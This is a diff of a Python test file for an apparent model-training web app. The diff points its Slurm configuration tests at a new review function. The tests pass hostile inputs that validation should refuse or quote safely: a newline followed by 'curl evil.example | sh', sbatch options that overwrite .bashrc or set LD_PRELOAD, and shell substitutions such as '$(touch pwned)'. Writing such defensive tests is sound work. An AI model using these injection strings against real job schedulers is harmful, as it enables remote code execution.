@@ -19,6 +19,7 @@ from app.pages import new_run
 from storage import queries
 from storage.db import data_dir, database_url, get_sessionmaker
 from tests.helpers import tiny_config
+from trainer import config_review as review
 from trainer.job import slurm
 from trainer.job.run_files import RunFiles
 from trainer.loading.data import DataError, check_dataset, load_problems
@@ -174,19 +175,19 @@ def test_the_database_files_and_run_directories_are_refused_as_data_or_model(tmp
 def test_a_newline_in_a_cluster_field_is_refused_by_name(field, monkeypatch):
     monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
     config = tiny_config(executor="slurm", **{field: "gpu\ncurl evil.example | sh"})
-    problems = config.validate()
+    problems = review.problems(config)
     assert any(p.startswith(field) for p in problems), problems
 
 
 def test_slurm_extra_may_not_choose_files_commands_or_the_environment(monkeypatch):
     monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
     for option in ("--output=/root/.bashrc", "--chdir=/", "--export=ALL,LD_PRELOAD=/tmp/x.so", "--wrap=id", "-D /"):
-        problems = tiny_config(executor="slurm", slurm_extra=[option]).validate()
+        problems = review.problems(tiny_config(executor="slurm", slurm_extra=[option]))
         assert any("not an option grpo-studio passes" in p for p in problems), option
     for smuggled in ("--exclusive --output=/home/op/.bashrc", "--mem 4G -o/tmp/pwn", "--qos=high\t--chdir=/"):
-        problems = tiny_config(executor="slurm", slurm_extra=[smuggled]).validate()
+        problems = review.problems(tiny_config(executor="slurm", slurm_extra=[smuggled]))
         assert any(p.startswith("slurm_extra") for p in problems), smuggled
-    assert tiny_config(executor="slurm", slurm_extra=["--qos=high", "--exclusive", "-C a100"]).validate() == []
+    assert review.problems(tiny_config(executor="slurm", slurm_extra=["--qos=high", "--exclusive", "-C a100"])) == []
 
 
 def _sbatch_words(line: str) -> list[str]:
@@ -219,7 +220,7 @@ def test_the_job_script_quotes_values_that_pass_validation(tmp_path, monkeypatch
     monkeypatch.setenv("DATABASE_URL", "postgresql+psycopg://user@dbhost/grpo")
     hostile = 'it\'s "$(touch pwned)" $HOME `id` #x \\'
     config = tiny_config(executor="slurm", name=hostile, slurm_extra=[f"--comment={hostile}"], slurm_partition="a,b")
-    assert config.validate() == []
+    assert review.problems(config) == []
     root = tmp_path / "run dir with spaces"
     script = slurm.job_script(config, 7, RunFiles(root), "token")
     options = dict(
